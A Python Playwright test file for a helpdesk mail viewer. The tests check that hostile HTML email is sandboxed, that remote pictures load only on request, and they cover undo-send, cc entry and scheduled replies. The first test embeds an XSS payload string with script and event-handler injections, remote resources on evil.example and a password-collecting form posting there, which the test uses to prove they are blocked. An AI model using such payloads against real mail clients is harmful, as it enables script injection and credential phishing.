"""Mail at the desk in a real browser: letters that can do nothing, and answers that can be taken back."""

from __future__ import annotations

import re

from playwright.sync_api import Route, expect

from tests.browser.conftest import Stage
from tests.browser.mail import arrived

HOSTILE = """
<script>parent.document.title = "taken"; document.body.textContent = "ran"</script>
<img src="/x" onerror="parent.document.title = 'taken'"><svg onload="parent.document.title = 'taken'"></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><iframe src="https://evil.example/frame"></iframe>
<style>body { background: url(https://evil.example/css.png) } @import "https://evil.example/b.css";</style>
<form action="https://evil.example/form"><input name="password"><button>Go on</button></form>
<table><tr><td><b>Your order</b></td></tr></table><img data-remote-src="https://evil.example/pixel.png" alt="A hat">
"""


def test_a_hostile_letter_does_nothing_and_its_pictures_come_when_asked_for(stage: Stage) -> None:
    ben = stage.ben(arrived(stage.server, {"text": "Your order", "html": HOSTILE}))
    asked: list[str] = []

    def count(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=b"")

    ben.page.context.route("https://evil.example/**", count)
    # What the browser refuses it says on the console.
    ben.page.expected_errors += ["Content Security Policy", "Blocked ", "404", "sandboxed"]  # type: ignore[attr-defined]
    ben.page.reload()
    sheet = ben.page.frame_locator(".sheet-mail iframe")
    expect(sheet.get_by_text("Your order")).to_be_visible()
    sheet.get_by_role("button", name="Go on").click()
    ben.page.wait_for_timeout(800)
    assert asked == []
    assert "taken" not in ben.page.title()
    expect(sheet.get_by_text("Your order")).to_be_visible()
    ben.page.get_by_role("button", name="Show pictures").click()
    expect(sheet.get_by_alt_text("A hat")).to_have_attribute("src", "https://evil.example/pixel.png")
    ben.page.wait_for_timeout(500)
    # Pictures alone, be they the page's or the style's; no page, style or form was fetched.
    assert "https://evil.example/pixel.png" in asked
    assert all(address.endswith(".png") for address in asked)
    assert "taken" not in ben.page.title()


def test_a_letter_is_as_high_as_it_is_and_has_its_plain_text(stage: Stage) -> None:
    rows = "".join(f"<tr><td>Row {number}</td></tr>" for number in range(60))
    ben = stage.ben(arrived(stage.server, {"text": "Only words", "html": f"<table>{rows}</table>"}))
    frame = ben.page.locator(".sheet-mail iframe")
    expect(frame).to_have_css("height", "720px")
    ben.page.get_by_role("button", name="Show the whole mail").click()
    expect(frame).not_to_have_css("height", "720px")
    assert (
        ben.page.frame_locator(".sheet-mail iframe").locator("html").evaluate("e => e.scrollHeight <= e.clientHeight")
    )
    ben.page.get_by_role("button", name="As plain text").click()
    expect(ben.message("Only words")).to_be_visible()
    expect(frame).to_be_hidden()
    ben.page.get_by_role("button", name="As it was sent").click()
    expect(frame).to_be_visible()


def test_a_letter_is_taken_back_and_is_the_draft_again(stage: Stage) -> None:
    ben = stage.ben(arrived(stage.server, {"text": "Where is it?", "cc": [["gran@customer.example", ""]]}))
    expect(ben.page.locator("desk-recipients [data-to]")).to_have_text("Dee Dahl <dee@customer.example>")
    expect(ben.page.locator("desk-recipients .chip")).to_have_text(["gran@customer.example"])
    ben.reply("It left today")
    held = ben.log.locator(".held")
    expect(held).to_contain_text(re.compile(r"Sending in \d+ s"))
    expect(ben.text).to_have_value("")
    ben.text.press("Escape")
    ben.page.keyboard.press("z")
    expect(ben.text).to_have_value("It left today")
    expect(held).to_have_count(0)
    expect(ben.page.locator("desk-recipients .chip")).to_have_text(["gran@customer.example"])


def test_copies_by_keyboard(stage: Stage) -> None:
    ben = stage.ben(arrived(stage.server, {"text": "By keyboard?"}))
    ben.page.get_by_role("button", name="Cc", exact=True).focus()
    keys = ben.page.keyboard
    keys.press("Enter")
    keys.type("gran@customer.example, Boss <boss@villa.example>\nwrong\n")
    chips = ben.page.locator("desk-recipients .chip")
    expect(chips).to_have_text(["gran@customer.example", "boss@villa.example", "wrong"])
    expect(ben.status).to_have_text("wrong isn’t an e-mail address.")
    expect(ben.page.get_by_role("button", name=re.compile("^Send Ctrl"))).to_be_disabled()
    keys.press("Backspace")
    expect(chips).to_have_count(2)
    keys.press("Enter")
    expect(ben.text).to_be_focused()
    expect(ben.page.get_by_role("button", name=re.compile("^Send Ctrl"))).to_be_enabled()


def test_a_letter_for_later_waits_in_its_row_and_others_see_it(stage: Stage) -> None:
    where = arrived(stage.server, {"text": "Tomorrow is fine"})
    ben, ada = stage.ben(where), stage.ada(where)
    ben.write("Good morning")
    ben.page.get_by_role("button", name="When to send").click()
    ben.page.get_by_role("button", name=re.compile("Tomorrow morning")).click()
    expect(ben.log.locator(".held")).to_contain_text("Goes tomorrow at")
    expect(ada.log.locator(".held")).to_contain_text("Ben Berg sends this tomorrow at")
    ben.page.reload()
    ben.log.get_by_role("button", name="Take back").click()
    expect(ben.text).to_have_value("Good morning")
    expect(ada.log.locator(".held")).to_have_count(0)
